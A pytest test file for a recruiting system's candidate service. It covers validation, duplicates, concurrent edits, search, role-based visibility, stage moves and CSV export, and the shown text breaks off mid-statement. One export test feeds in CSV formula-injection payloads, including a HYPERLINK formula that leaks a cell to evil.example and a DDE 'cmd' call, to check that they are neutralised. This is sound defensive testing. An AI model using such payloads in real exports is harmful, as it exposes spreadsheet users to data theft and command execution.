"""Candidates: validation, duplicates, simultaneous edits, search, visibility, stage moves, export and audit."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
from sqlmodel import Session, func, select

from models.audit import AuditLog
from models.candidate import Application, Candidate, StageChange
from models.common import Stage, utcnow
from services.pipeline import candidates, jobs, spreadsheet
from services.pipeline.candidates import DuplicateCandidate
from services.platform.errors import Conflict, InvalidTransition, NotAllowed, NotFound, ValidationError
from tests.factories import done

FORM_FIELDS = {"name", "email", "phone", "wechat_id", "source", "tags", "owner_id", "language", "consent", "notes"}


def form(candidate: Candidate, **changes: object) -> dict:
    """What the edit form sends back: every field plus the version the editor started from."""
    return candidate.model_dump(include=FORM_FIELDS) | {"version": candidate.version} | changes


def create(session: Session, actor, **values: object) -> Candidate:
    return candidates.create_candidate(session=session, actor=actor, candidate_in=values)


def count(session: Session, model: type) -> int:
    return session.exec(select(func.count()).select_from(model)).one()


def application_of(session: Session, candidate: Candidate) -> Application:
    return session.exec(select(Application).where(Application.candidate_id == candidate.id)).one()


def names(result: candidates.SearchResult) -> list[str]:
    return sorted(r["name"] for r in result.rows)


def search(session: Session, actor, **kw: object) -> candidates.SearchResult:
    return candidates.search_candidates(session=session, actor=actor, **kw)


# --- create and validate --------------------------------------------------------------------------------------


def test_a_recruiter_creates_a_candidate_owned_by_themselves(session, make, frozen_clock) -> None:
    recruiter = make.user("recruiter")
    cand = create(
        session,
        recruiter,
        name=" 张伟 ",
        email="Zhang.Wei@Example.com",
        phone="+86 138 0013 8000",
        wechat_id="ZhangWei_88",
        tags="Java, 后端，java",
        consent=True,
        source="referral",
    )
    stored = session.get(Candidate, cand.id)
    assert stored.name == "张伟"
    assert stored.email == "zhang.wei@example.com"
    assert stored.phone_digits == "13800138000"  # +86 dropped: same phone as 138 0013 8000
    assert stored.tags == ",java,后端,"
    assert stored.owner_id == recruiter.id
    assert stored.consent_at == utcnow()
    assert stored.version == 1
    assert "张伟" in stored.search_text and "zhangwei_88" in stored.search_text


def test_a_candidate_may_be_reached_by_phone_only_or_email_only(session, make) -> None:
    recruiter = make.user("recruiter")
    assert create(session, recruiter, name="Phone Only", phone="13800138000").email is None
    assert create(session, recruiter, name="Mail Only", email="mail@example.com", phone="  ").phone is None


def test_creating_a_candidate_for_an_open_job_starts_an_application_in_interviewing(session, make) -> None:
    recruiter = make.user("recruiter")
    job = make.job(actor=recruiter)
    cand = candidates.create_candidate(
        session=session, actor=recruiter, job_id=job.id, candidate_in={"name": "李娜", "email": "li.na@example.com"}
    )
    app = application_of(session, cand)
    assert (app.job_id, app.stage, app.created_by_id) == (job.id, Stage.interviewing, recruiter.id)
    [change] = session.exec(select(StageChange).where(StageChange.application_id == app.id)).all()
    assert (change.from_stage, change.to_stage) == (None, "interviewing")


@pytest.mark.parametrize(
    ("values", "field", "key"),
    [
        ({"name": "张伟", "email": "zhang@", "phone": None}, "email", "err.email_invalid"),
        ({"name": "张伟", "email": "zhang@example.com", "phone": "12ab"}, "phone", "err.phone_invalid"),
        ({"name": "张伟", "phone": "123"}, "phone", "err.phone_invalid"),
        ({"name": "张伟", "phone": "+86 138 0013 8000 0000 0000"}, "phone", "err.phone_invalid"),
        ({"name": "张伟", "email": "", "phone": ""}, "__all__", "err.contact_required"),
        ({"name": "张伟"}, "__all__", "err.contact_required"),
        ({"name": "", "email": "a@example.com"}, "name", "err.required"),
        ({"name": "   ", "email": "a@example.com"}, "name", "err.required"),
        ({"name": "名" * 101, "email": "a@example.com"}, "name", "err.too_long"),
        ({"name": "张伟", "email": "a@example.com", "notes": "x" * 10_000_000}, "notes", "err.too_long"),
        ({"name": "张伟", "email": "a@example.com", "source": "newspaper"}, "source", "err.source_invalid"),
        (
            {"name": "张伟", "email": "a@example.com", "tags": ",".join(f"t{i}" for i in range(21))},
            "tags",
            "err.tags_invalid",
        ),
        ({"name": "张伟", "email": "a@example.com", "language": "fr"}, "language", "err.choice_invalid"),
    ],
)
def test_a_bad_candidate_is_refused_with_the_field_and_message(session, make, values, field, key) -> None:
    with pytest.raises(ValidationError) as caught:
        create(session, make.user("recruiter"), **values)
    assert caught.value.fields[field][0] == key
    assert count(session, Candidate) == 0


def test_an_oversized_notes_field_names_the_limit(session, make) -> None:
    with pytest.raises(ValidationError) as caught:
        create(session, make.user("recruiter"), name="张伟", email="a@example.com", notes="备" * 5001)
    assert caught.value.fields["notes"] == ("err.too_long", {"max": 5000})


def test_a_name_of_one_hundred_characters_is_accepted(session, make) -> None:
    assert len(create(session, make.user("recruiter"), name="名" * 100, email="a@example.com").name) == 100


def test_the_owner_must_be_an_active_recruiter_or_admin(session, make) -> None:
    recruiter = make.user("recruiter")
    for owner in (make.user("interviewer"), make.user("recruiter", is_active=False)):
        with pytest.raises(ValidationError) as caught:
            create(session, recruiter, name="张伟", email="a@example.com", owner_id=owner.id)
        assert caught.value.fields == {"owner_id": ("err.not_a_recruiter", {})}


@pytest.mark.parametrize("roles", ["hiring_manager", "interviewer"])
def test_only_admins_and_recruiters_create_candidates(session, make, roles) -> None:
    with pytest.raises(NotAllowed):
        create(session, make.user(roles), name="张伟", email="a@example.com")


# --- duplicates -----------------------------------------------------------------------------------------------


def test_the_same_email_in_another_case_is_a_duplicate(session, make) -> None:
    recruiter = make.user("recruiter")
    first = create(session, recruiter, name="张伟", email="zhang.wei@example.com")
    with pytest.raises(DuplicateCandidate) as caught:
        create(session, recruiter, name="Wei Zhang", email="ZHANG.WEI@example.com")
    assert [c.id for c in caught.value.existing] == [first.id]
    assert caught.value.key == "err.duplicate_candidate"
    assert count(session, Candidate) == 1


def test_the_same_phone_digits_written_differently_are_a_duplicate(session, make) -> None:
    recruiter = make.user("recruiter")
    first = create(session, recruiter, name="张伟", phone="+86 138 0013 8000")
    with pytest.raises(DuplicateCandidate) as caught:
        create(session, recruiter, name="张伟", email="other@example.com", phone="+86-(138)-0013-8000")
    assert [c.id for c in caught.value.existing] == [first.id]


def test_allow_duplicate_saves_a_second_candidate_with_the_same_contact(session, make) -> None:
    recruiter = make.user("recruiter")
    create(session, recruiter, name="张伟", email="zhang.wei@example.com")
    candidates.create_candidate(
        session=session,
        actor=recruiter,
        allow_duplicate=True,
        candidate_in={"name": "张伟 (2)", "email": "zhang.wei@example.com"},
    )
    assert count(session, Candidate) == 2


def test_changing_the_email_to_another_candidates_is_a_duplicate_unless_allowed(session, make) -> None:
    recruiter = make.user("recruiter")
    first = create(session, recruiter, name="张伟", email="zhang@example.com")
    second = create(session, recruiter, name="李娜", email="li@example.com")
    with pytest.raises(DuplicateCandidate) as caught:
        candidates.update_candidate(
            session=session,
            actor=recruiter,
            candidate_id=second.id,
            candidate_in=form(second, email="zhang@example.com"),
        )
    assert [c.id for c in caught.value.existing] == [first.id]
    saved = candidates.update_candidate(
        session=session,
        actor=recruiter,
        candidate_id=second.id,
        candidate_in=form(second, email="zhang@example.com"),
        allow_duplicate=True,
    )
    assert saved.email == "zhang@example.com"


def test_saving_a_candidate_without_changing_contact_is_not_a_duplicate_of_itself(session, make) -> None:
    recruiter = make.user("recruiter")
    cand = create(session, recruiter, name="张伟", email="zhang@example.com", phone="13800138000")
    saved = candidates.update_candidate(
        session=session, actor=recruiter, candidate_id=cand.id, candidate_in=form(cand, notes="called back")
    )
    assert saved.notes == "called back"


# --- update and simultaneous edits ----------------------------------------------------------------------------


def test_an_edit_saves_every_field_and_bumps_the_version(session, make, frozen_clock) -> None:
    recruiter = make.user("recruiter")
    other = make.user("recruiter")
    cand = create(session, recruiter, name="张伟", email="zhang@example.com", phone="13800138000")
    saved = candidates.update_candidate(
        session=session,
        actor=recruiter,
        candidate_id=cand.id,
        candidate_in=form(
            cand,
            name="张伟伟",
            phone="+86 139 1234 5678",
            wechat_id="zw_1",
            tags="go",
            owner_id=other.id,
            language="en",
            consent=True,
            source="campus",
        ),
    )
    assert (saved.name, saved.phone_digits, saved.owner_id, saved.language, saved.version) == (
        "张伟伟",
        "13912345678",
        other.id,
        "en",
        2,
    )
    assert saved.consent_at == utcnow()
    assert "zw_1" in saved.search_text and "13912345678" in saved.search_text
    assert search(session, recruiter, q="张伟伟").total == 1


def test_an_edit_that_is_refused_by_validation_changes_nothing(session, make) -> None:
    recruiter = make.user("recruiter")
    cand = create(session, recruiter, name="张伟", email="zhang@example.com")
    with pytest.raises(ValidationError) as caught:
        candidates.update_candidate(
            session=session, actor=recruiter, candidate_id=cand.id, candidate_in=form(cand, email="", phone="")
        )
    assert caught.value.fields["__all__"][0] == "err.contact_required"
    session.expire_all()
    assert session.get(Candidate, cand.id).email == "zhang@example.com"


def test_editing_an_unknown_candidate_is_not_found(session, make) -> None:
    recruiter = make.user("recruiter")
    with pytest.raises(NotFound):
        candidates.update_candidate(
            session=session,
            actor=recruiter,
            candidate_id=9999,
            candidate_in={"name": "X", "email": "x@example.com", "version": 1},
        )


def test_a_save_from_a_stale_version_is_a_conflict_and_nothing_is_lost(session, make) -> None:
    recruiter = make.user("recruiter")
    cand = create(session, recruiter, name="张伟", email="zhang@example.com")
    stale = form(cand)
    candidates.update_candidate(
        session=session,
        actor=recruiter,
        candidate_id=cand.id,
        candidate_in=form(cand, notes="offer expected on Friday"),
    )
    with pytest.raises(Conflict) as caught:
        candidates.update_candidate(
            session=session, actor=recruiter, candidate_id=cand.id, candidate_in=stale | {"name": "张伟 (edited)"}
        )
    assert caught.value.current.version == 2
    assert caught.value.current.notes == "offer expected on Friday"
    session.expire_all()
    stored = session.get(Candidate, cand.id)
    assert (stored.name, stored.notes, stored.version) == ("张伟", "offer expected on Friday", 2)


def test_two_editors_saving_the_same_version_exactly_one_wins(engine, make) -> None:
    recruiter = make.user("recruiter")
    cand = make.candidate(actor=recruiter, name="张伟", email="zhang@example.com")
    results: list[str] = []
    with Session(engine, expire_on_commit=False) as first, Session(engine, expire_on_commit=False) as second:
        # Both editors opened the form on version 1.
        mine, theirs = first.get(Candidate, cand.id), second.get(Candidate, cand.id)
        for sess, loaded, note in ((first, mine, "first"), (second, theirs, "second")):
            try:
                done(
                    sess,
                    candidates.update_candidate(
                        session=sess, actor=recruiter, candidate_id=cand.id, candidate_in=form(loaded, notes=note)
                    ),
                )
                results.append("saved")
            except Conflict as exc:
                results.append("conflict")
                assert exc.current.notes == "first"
                assert exc.current.version == 2
    assert results == ["saved", "conflict"]
    with Session(engine) as fresh:
        stored = fresh.get(Candidate, cand.id)
        assert (stored.notes, stored.version) == ("first", 2)
        updates = fresh.exec(select(AuditLog).where(AuditLog.entity == "candidate", AuditLog.action == "update")).all()
        assert len(updates) == 1


def test_withdrawing_consent_clears_the_consent_time(session, make) -> None:
    recruiter = make.user("recruiter")
    cand = create(session, recruiter, name="张伟", email="zhang@example.com", consent=True)
    saved = candidates.update_candidate(
        session=session, actor=recruiter, candidate_id=cand.id, candidate_in=form(cand, consent=False)
    )
    assert (saved.consent, saved.consent_at) == (False, None)


def test_a_hiring_manager_cannot_edit_a_candidate(session, make) -> None:
    admin = make.admin()
    manager = make.user("hiring_manager")
    cand = make.candidate(actor=admin, job=make.job(actor=admin, hiring_manager_id=manager.id))
    with pytest.raises(NotAllowed):
        candidates.update_candidate(
            session=session, actor=manager, candidate_id=cand.id, candidate_in=form(cand, name="Changed")
        )


# --- search -------------------------------------------------------------------------------------------------


@pytest.fixture
def people(session, make) -> dict:
    """A small candidate base with known names, contacts, owners, sources, tags, jobs and stages."""
    admin = make.admin()
    recruiter, other = make.user("recruiter"), make.user("recruiter")
    backend, design = make.job(actor=admin, title="Backend"), make.job(actor=admin, title="Design")
    zhang = create(
        session,
        recruiter,
        name="张伟",
        email="zhang.wei@example.com",
        phone="+86 138 0013 8000",
        wechat_id="zw_2024",
        source="referral",
        tags="java,go",
    )
    emma = create(
        session,
        recruiter,
        name="Emma Wilson",
        email="emma@example.org",
        phone="+44 20 7946 0958",
        source="campus",
        tags="react",
    )
    li = create(session, other, name="李伟", email="li.wei@example.cn", phone="139 1234 5678", tags="java")
    for cand, job in ((zhang, backend), (emma, design), (li, backend)):
        candidates.add_application(session=session, actor=admin, candidate_id=cand.id, job_id=job.id)
    candidates.move_stage(
        session=session, actor=admin, application_id=application_of(session, li).id, to_stage="decision_pending"
    )
    return {
        "admin": admin,
        "recruiter": recruiter,
        "other": other,
        "backend": backend,
        "design": design,
        "zhang": zhang,
        "emma": emma,
        "li": li,
    }


def test_search_finds_candidates_by_part_of_the_name(session, people) -> None:
    assert names(search(session, people["recruiter"], q="伟")) == ["张伟", "李伟"]
    assert names(search(session, people["recruiter"], q="wilson")) == ["Emma Wilson"]


def test_search_finds_candidates_by_email(session, people) -> None:
    assert names(search(session, people["recruiter"], q="EMMA@example.org")) == ["Emma Wilson"]
    assert names(search(session, people["recruiter"], q="example.cn")) == ["李伟"]


def test_search_finds_candidates_by_phone_digits_whatever_the_formatting(session, people) -> None:
    for q in ("138-0013-8000", "13800138000", "(138) 0013 8000", "+86 138"):
        assert names(search(session, people["recruiter"], q=q)) == ["张伟"], q


def test_search_finds_candidates_by_wechat_id(session, people) -> None:
    assert names(search(session, people["recruiter"], q="ZW_2024")) == ["张伟"]


def test_search_filters_by_job_stage_owner_source_and_tag(session, people) -> None:
    actor = people["admin"]
    assert names(search(session, actor, job_id=people["backend"].id)) == ["张伟", "李伟"]
    assert names(search(session, actor, stage=Stage.decision_pending)) == ["李伟"]
    assert names(search(session, actor, job_id=people["backend"].id, stage=Stage.interviewing)) == ["张伟"]
    assert names(search(session, actor, owner_id=people["other"].id)) == ["李伟"]
    assert names(search(session, actor, source="campus")) == ["Emma Wilson"]
    assert names(search(session, actor, tag=" JAVA ")) == ["张伟", "李伟"]
    assert names(search(session, actor, tag="jav")) == []
    assert names(search(session, actor, q="伟", tag="go")) == ["张伟"]


def test_search_rows_show_owner_tags_and_applications(session, people) -> None:
    [row] = search(session, people["admin"], q="zhang.wei").rows
    assert row["owner"] == people["recruiter"].name
    assert row["tags"] == ["java", "go"]
    assert row["applications"] == [("Backend", "interviewing")]


def test_search_returns_the_second_page_newest_first(session, make) -> None:
    recruiter = make.user("recruiter")
    made = [make.candidate(actor=recruiter, name=f"Person {i:02d}") for i in range(30)]
    first = search(session, recruiter, page=1, page_size=25)
    second = search(session, recruiter, page=2, page_size=25)
    assert (first.total, first.pages, first.capped) == (30, 2, False)
    assert [r["id"] for r in first.rows] == [c.id for c in reversed(made)][:25]
    assert [r["id"] for r in second.rows] == [c.id for c in reversed(made)][25:]
    assert search(session, recruiter, page=3, page_size=25).rows == []


def test_an_unsupported_page_size_falls_back_to_the_default(session, make) -> None:
    recruiter = make.user("recruiter")
    for i in range(3):
        make.candidate(actor=recruiter, name=f"P{i}")
    result = search(session, recruiter, page_size=2, page=0)
    assert (result.page_size, result.page, len(result.rows)) == (25, 1, 3)


def test_the_count_stops_at_the_cap(session, make, monkeypatch) -> None:
    monkeypatch.setattr(candidates, "COUNT_CAP", 3)
    recruiter = make.user("recruiter")
    for i in range(5):
        make.candidate(actor=recruiter, name=f"P{i}")
    result = search(session, recruiter)
    assert (result.total, result.capped) == (3, True)
    exact = search(session, recruiter, q="P4")
    assert (exact.total, exact.capped) == (1, False)


def test_percent_and_underscore_in_the_search_are_literal(session, make) -> None:
    recruiter = make.user("recruiter")
    create(session, recruiter, name="Full 100% Match", email="a@example.com")
    create(session, recruiter, name="Full 1000 Match", email="b@example.com")
    create(session, recruiter, name="Li", email="c@example.com", wechat_id="li_na")
    create(session, recruiter, name="Lina", email="d@example.com", wechat_id="lixna")
    create(session, recruiter, name="Back\\slash", email="e@example.com")
    assert names(search(session, recruiter, q="100%")) == ["Full 100% Match"]
    assert names(search(session, recruiter, q="%")) == ["Full 100% Match"]
    assert names(search(session, recruiter, q="li_na")) == ["Li"]
    assert names(search(session, recruiter, q="_")) == ["Li"]
    assert names(search(session, recruiter, q="k\\s")) == ["Back\\slash"]


def test_a_blank_search_lists_everyone_visible(session, people) -> None:
    assert search(session, people["admin"], q="   ").total == 3


def test_a_hiring_manager_sees_only_candidates_applying_to_their_jobs(session, make) -> None:
    admin = make.admin()
    manager, other_manager = make.user("hiring_manager"), make.user("hiring_manager")
    own = make.job(actor=admin, hiring_manager_id=manager.id)
    theirs = make.job(actor=admin, hiring_manager_id=other_manager.id)
    mine = make.candidate(actor=admin, job=own, name="Mine")
    make.candidate(actor=admin, job=theirs, name="Theirs")
    make.candidate(actor=admin, name="Nobody's")
    result = search(session, manager)
    assert [r["id"] for r in result.rows] == [mine.id]
    assert result.total == 1
    assert names(search(session, manager, q="Theirs")) == []


def test_an_interviewer_cannot_list_candidates(session, make) -> None:
    make.candidate()
    with pytest.raises(NotAllowed):
        search(session, make.user("interviewer"))


# --- detail ---------------------------------------------------------------------------------------------------


def test_the_detail_shows_applications_next_stages_timeline_and_owner(session, people) -> None:
    detail = candidates.get_candidate_detail(session=session, actor=people["admin"], candidate_id=people["li"].id)
    assert detail.candidate.name == "李伟"
    assert detail.owner == people["other"].name
    [app] = detail.applications
    assert app.job == "Backend"
    assert app.next_stages == ["interviewing", "offer", "rejected", "talent_pool", "withdrawn"]
    assert [(t.from_stage, t.to_stage) for t in detail.timeline] == [
        (None, "interviewing"),
        ("interviewing", "decision_pending"),
    ]
    assert detail.timeline[1].by == people["admin"].name
    assert detail.can_edit is True


def test_a_hiring_manager_gets_not_found_for_a_candidate_outside_their_jobs(session, make) -> None:
    admin = make.admin()
    manager = make.user("hiring_manager")
    visible = make.candidate(actor=admin, job=make.job(actor=admin, hiring_manager_id=manager.id))
    hidden = make.candidate(actor=admin, job=make.job(actor=admin))
    detail = candidates.get_candidate_detail(session=session, actor=manager, candidate_id=visible.id)
    assert detail.can_edit is False
    with pytest.raises(NotFound):
        candidates.get_candidate_detail(session=session, actor=manager, candidate_id=hidden.id)
    with pytest.raises(NotFound):
        candidates.get_candidate_detail(session=session, actor=admin, candidate_id=9999)


def test_an_interviewer_cannot_open_a_candidate(session, make) -> None:
    cand = make.candidate()
    with pytest.raises(NotAllowed):
        candidates.get_candidate_detail(session=session, actor=make.user("interviewer"), candidate_id=cand.id)


def test_the_audit_trail_lists_the_creation_and_the_edit_with_its_changes(session, make) -> None:
    recruiter = make.user("recruiter", name="周敏")
    cand = create(session, recruiter, name="张伟", email="zhang@example.com")
    candidates.update_candidate(
        session=session,
        actor=recruiter,
        candidate_id=cand.id,
        candidate_in=form(cand, name="张伟伟", notes="prefers mornings"),
    )
    trail = candidates.get_candidate_detail(session=session, actor=recruiter, candidate_id=cand.id).audit
    assert [r["action"] for r in trail] == ["update", "create"]
    assert trail[0]["user"] == "周敏"
    assert trail[0]["changes"] == {"name": ["张伟", "张伟伟"], "notes": ["", "prefers mornings"]}
    assert trail[1]["changes"]["name"] == "张伟"
    assert trail[1]["changes"]["email"] == "zhang@example.com"


# --- stage moves ----------------------------------------------------------------------------------------------


@pytest.fixture
def pipeline(session, make) -> dict:
    admin = make.admin()
    manager = make.user("hiring_manager")
    job = make.job(actor=admin, hiring_manager_id=manager.id)
    cand = make.candidate(actor=admin, job=job)
    return {"admin": admin, "manager": manager, "job": job, "candidate": cand, "app": application_of(session, cand)}


def move(session: Session, actor, app: Application, to: str, reason: str = "", **kw: object) -> Application:
    return candidates.move_stage(session=session, actor=actor, application_id=app.id, to_stage=to, reason=reason, **kw)


def test_a_stage_move_records_who_when_and_why(session, pipeline, frozen_clock) -> None:
    recruiter = pipeline["admin"]
    moved = move(session, recruiter, pipeline["app"], "decision_pending", reason="  panel agreed  ")
    assert moved.stage == Stage.decision_pending
    assert moved.stage_changed_at == utcnow()
    last = session.exec(
        select(StageChange).where(StageChange.application_id == moved.id).order_by(StageChange.id.desc())
    ).first()
    assert (last.from_stage, last.to_stage, last.by_user_id, last.reason, last.at) == (
        "interviewing",
        "decision_pending",
        recruiter.id,
        "panel agreed",
        utcnow(),
    )
    row = session.exec(select(AuditLog).where(AuditLog.action == "move_stage")).one()
    assert json.loads(row.changes) == {"stage": ["interviewing", "decision_pending"], "reason": "panel agreed"}


def test_an_application_walks_the_whole_pipeline_and_stops_at_probation_passed(session, pipeline) -> None:
    admin, app = pipeline["admin"], pipeline["app"]
    for stage in ("decision_pending", "offer", "hired", "probation_passed"):
        assert move(session, admin, app, stage).stage == stage
    for stage in Stage:
        with pytest.raises(InvalidTransition):
            move(session, admin, app, stage.value, reason="try")


def test_skipping_a_stage_is_an_invalid_transition(session, pipeline) -> None:
    with pytest.raises(InvalidTransition) as caught:
        move(session, pipeline["admin"], pipeline["app"], "hired")
    assert caught.value.params == {"from_stage": "interviewing", "to_stage": "hired"}
    session.expire_all()
    assert session.get(Application, pipeline["app"].id).stage == Stage.interviewing


@pytest.mark.parametrize("exit_stage", ["rejected", "withdrawn", "talent_pool"])
def test_an_exit_needs_a_reason(session, pipeline, exit_stage) -> None:
    for reason in ("", "    "):
        with pytest.raises(ValidationError) as caught:
            move(session, pipeline["admin"], pipeline["app"], exit_stage, reason=reason)
        assert caught.value.fields == {"reason": ("err.reason_required", {})}
    pool = {"pool": {"revisit_on": (utcnow() + timedelta(days=30)).date()}} if exit_stage == "talent_pool" else {}
    moved = move(session, pipeline["admin"], pipeline["app"], exit_stage, reason="accepted elsewhere", **pool)
    assert moved.stage == exit_stage


def test_a_rejected_application_can_be_reopened_into_interviewing(session, pipeline) -> None:
    admin, app = pipeline["admin"], pipeline["app"]
    move(session, admin, app, "rejected", reason="skills")
    assert move(session, admin, app, "interviewing").stage == Stage.interviewing


def test_an_unknown_stage_is_refused(session, pipeline) -> None:
    with pytest.raises(ValidationError) as caught:
        move(session, pipeline["admin"], pipeline["app"], "promoted")
    assert caught.value.fields["to_stage"][0] == "err.choice_invalid"


def test_a_move_from_a_stage_the_application_has_left_is_a_conflict(session, pipeline) -> None:
    admin, app = pipeline["admin"], pipeline["app"]
    move(session, admin, app, "decision_pending")
    with pytest.raises(Conflict) as caught:
        move(session, admin, app, "rejected", reason="skills", from_stage="interviewing")
    assert (caught.value.key, caught.value.params) == ("err.stage_changed", {"stage": "decision_pending"})
    session.expire_all()
    assert session.get(Application, app.id).stage == Stage.decision_pending


def test_two_people_moving_the_same_application_at_once_only_one_succeeds(engine, pipeline) -> None:
    admin, app_id = pipeline["admin"], pipeline["app"].id
    with Session(engine, expire_on_commit=False) as first, Session(engine, expire_on_commit=False) as second:
        # Both people see the application in interviewing, and keep it loaded while they decide.
        held = [first.get(Application, app_id), second.get(Application, app_id)]
        assert [a.stage for a in held] == ["interviewing", "interviewing"]
        done(
            first,
            candidates.move_stage(
                session=first,
                actor=admin,
                application_id=app_id,
                to_stage="decision_pending",
                from_stage="interviewing",
            ),
        )
        with pytest.raises(Conflict):
            candidates.move_stage(
                session=second,
                actor=admin,
                application_id=app_id,
                to_stage="withdrawn",
                reason="declined",
                from_stage="interviewing",
            )
    with Session(engine) as fresh:
        assert fresh.get(Application, app_id).stage == "decision_pending"
        changes = fresh.exec(select(StageChange).where(StageChange.application_id == app_id)).all()
        assert [c.to_stage for c in changes] == ["interviewing", "decision_pending"]


def test_a_hiring_manager_moves_applications_of_their_own_jobs_only(session, pipeline, make) -> None:
    manager, admin = pipeline["manager"], pipeline["admin"]
    assert move(session, manager, pipeline["app"], "decision_pending").stage == Stage.decision_pending
    other = make.candidate(actor=admin, job=make.job(actor=admin))
    with pytest.raises(NotAllowed):
        move(session, manager, application_of(session, other), "decision_pending")


def test_an_interviewer_cannot_move_an_application(session, pipeline, make) -> None:
    with pytest.raises(NotAllowed):
        move(session, make.user("interviewer"), pipeline["app"], "decision_pending")


def test_moving_an_unknown_application_is_not_found(session, pipeline) -> None:
    with pytest.raises(NotFound):
        candidates.move_stage(session=session, actor=pipeline["admin"], application_id=9999, to_stage="offer")


# --- applications ---------------------------------------------------------------------------------------------


def test_applying_to_a_closed_job_is_refused(session, make) -> None:
    admin = make.admin()
    job = make.job(actor=admin)
    jobs.update_job(session=session, actor=admin, job_id=job.id, version=1, job_in={"status": "closed"})
    cand = make.candidate(actor=admin)
    with pytest.raises(ValidationError) as caught:
        candidates.add_application(session=session, actor=admin, candidate_id=cand.id, job_id=job.id)
    assert caught.value.fields == {"job_id": ("err.job_not_open", {})}
    assert count(session, Application) == 0


def test_applying_twice_to_the_same_job_is_refused(session, make) -> None:
    admin = make.admin()
    job = make.job(actor=admin)
    cand = make.candidate(actor=admin, job=job)
    with pytest.raises(ValidationError) as caught:
        candidates.add_application(session=session, actor=admin, candidate_id=cand.id, job_id=job.id)
    assert caught.value.fields == {"job_id": ("err.already_applied", {})}
    assert count(session, Application) == 1


def test_applying_to_an_unknown_job_or_for_an_unknown_candidate_is_refused(session, make) -> None:
    admin = make.admin()
    cand = make.candidate(actor=admin)
    with pytest.raises(ValidationError) as caught:
        candidates.add_application(session=session, actor=admin, candidate_id=cand.id, job_id=9999)
    assert caught.value.fields == {"job_id": ("err.job_unknown", {})}
    with pytest.raises(NotFound):
        candidates.add_application(session=session, actor=admin, candidate_id=9999, job_id=make.job(actor=admin).id)


def test_a_hiring_manager_cannot_add_applications(session, make) -> None:
    admin = make.admin()
    manager = make.user("hiring_manager")
    job = make.job(actor=admin, hiring_manager_id=manager.id)
    cand = make.candidate(actor=admin)
    with pytest.raises(NotAllowed):
        candidates.add_application(session=session, actor=manager, candidate_id=cand.id, job_id=job.id)


# --- export ---------------------------------------------------------------------------------------------------


def test_the_csv_export_has_a_bom_the_header_and_chinese_names_intact(session, people) -> None:
    text = "".join(candidates.export_candidates_csv(session=session, actor=people["admin"]))
    assert text.startswith("\ufeff")
    data = text.encode("utf-8")
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == candidates.EXPORT_COLUMNS
    by_name = {r[1]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    assert set(by_name) == {"张伟", "Emma Wilson", "李伟"}
    assert by_name["张伟"]["wechat_id"] == "zw_2024"
    assert by_name["张伟"]["tags"] == "java,go"
    assert by_name["李伟"]["applications"] == "Backend (decision_pending)"


def test_the_csv_export_follows_the_filters_and_pages_through_everything(session, make) -> None:
    recruiter = make.user("recruiter")
    for i in range(105):
        make.candidate(actor=recruiter, name=f"导出 {i:03d}", source="campus" if i % 2 else "referral")
    everyone = list(
        csv.reader(
            io.StringIO("".join(candidates.export_candidates_csv(session=session, actor=recruiter)).lstrip("\ufeff"))
        )
    )
    assert len(everyone) == 1 + 105
    campus = list(
        csv.reader(
            io.StringIO(
                "".join(candidates.export_candidates_csv(session=session, actor=recruiter, source="campus")).lstrip(
                    "\ufeff"
                )
            )
        )
    )
    assert len(campus) == 1 + 52
    assert {r[5] for r in campus[1:]} == {"campus"}


def test_a_hiring_manager_cannot_export(session, make) -> None:
    with pytest.raises(NotAllowed):
        "".join(candidates.export_candidates_csv(session=session, actor=make.user("hiring_manager")))


def test_the_tag_filter_takes_underscore_and_percent_literally(session, make) -> None:
    recruiter = make.user("recruiter")
    create(session, recruiter, name="Sharp", email="a@example.com", tags="c_sharp")
    create(session, recruiter, name="Other", email="b@example.com", tags="cxsharp, 100%")
    create(session, recruiter, name="Plain", email="c@example.com", tags="1000")
    assert names(search(session, recruiter, tag="c_sharp")) == ["Sharp"]
    assert names(search(session, recruiter, tag="100%")) == ["Other"]


def test_anonymised_candidates_are_neither_found_nor_duplicates(session, make, frozen_clock) -> None:
    recruiter = make.user("recruiter")
    gone = create(session, recruiter, name="张伟", email="zhang@example.com")
    gone.anonymised_at = utcnow()
    session.add(gone)
    session.commit()
    assert search(session, recruiter, q="张伟").total == 0
    with pytest.raises(NotFound):
        candidates.get_candidate_detail(session=session, actor=recruiter, candidate_id=gone.id)
    assert create(session, recruiter, name="张伟", email="zhang@example.com").id != gone.id


def test_a_number_with_and_without_chinas_country_code_is_the_same_phone(make, session) -> None:
    recruiter = make.user("recruiter")
    first = make.candidate(actor=recruiter, name="王芳", email=None, phone="13800138000")
    with pytest.raises(candidates.DuplicateCandidate) as caught:
        candidates.create_candidate(
            session=session, actor=recruiter, candidate_in={"name": "王芳", "phone": "+86 138 0013 8000"}
        )
    assert [c.id for c in caught.value.existing] == [first.id]
    found = candidates.search_candidates(session=session, actor=recruiter, q="0086 138 0013")
    assert [r["id"] for r in found.rows] == [first.id]


@pytest.mark.parametrize(
    "hostile", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
)
def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run_as_a_formula(session, make, hostile) -> None:
    recruiter = make.user("recruiter")
    make.candidate(actor=recruiter, name=hostile, wechat_id=hostile[:60], tags="")
    text = "".join(candidates.export_candidates_csv(session=session, actor=recruiter)).lstrip("\ufeff")
    lines = text.splitlines()
    assert lines[1].startswith('"'), "every field is quoted"
    [row] = list(csv.reader(io.StringIO(text)))[1:]
    record = dict(zip(candidates.EXPORT_COLUMNS, row, strict=True))
    # Names are stripped on save; what was stored must come back with one leading quote, never live.
    for column in ("name", "wechat_id"):
        assert record[column][0] == "'", (column, record[column])
        assert record[column][1:] == hostile[: 60 if column == "wechat_id" else None]


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "\t=1"])
def test_a_cell_that_starts_like_a_formula_gets_a_leading_quote(cell) -> None:
    assert spreadsheet.safe_cell(cell) == "'" + cell
    assert spreadsheet.safe_cell("plain " + cell) == "plain " + cell
    assert spreadsheet.safe_cell(42) == 42


def test_the_csv_export_leaves_ordinary_cells_as_they_are(session, make) -> None:
    recruiter = make.user("recruiter")
    make.candidate(actor=recruiter, name="O'Brien 张", email="ob@example.com", phone="13800138000")
    [row] = list(
        csv.reader(
